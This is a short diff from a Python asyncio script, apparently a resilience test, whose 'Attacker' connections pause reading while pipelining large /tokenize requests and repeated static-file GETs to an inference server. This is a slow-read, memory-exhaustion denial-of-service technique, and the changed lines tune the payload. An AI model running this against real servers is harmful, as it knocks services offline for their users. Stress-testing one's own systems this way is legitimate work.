@@ -197,10 +197,11 @@ async def ask_without_reading(readers: list[Attacker]) -> None:
     """Large answers one after the other on each connection, more than systems keep for a client."""
     body = json.dumps({"inputs": "What is it? " * 1000}).encode()
     head = POST.replace(b"/generate", b"/tokenize") + b"Content-Length: %d\r\n\r\n" % len(body)
+    script = b"GET /static-offline-docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: a\r\n\r\n"
     for reader in readers:
         reader.writer.transport.pause_reading()  # type: ignore[attr-defined]
-        await reader.send((head + body) * 16)
-        await asyncio.sleep(0.1)
+        await reader.send(head + body + script * 6)
+        await asyncio.sleep(0.2)
 
 
 async def drip(all_of_them: list[Attacker]) -> None:
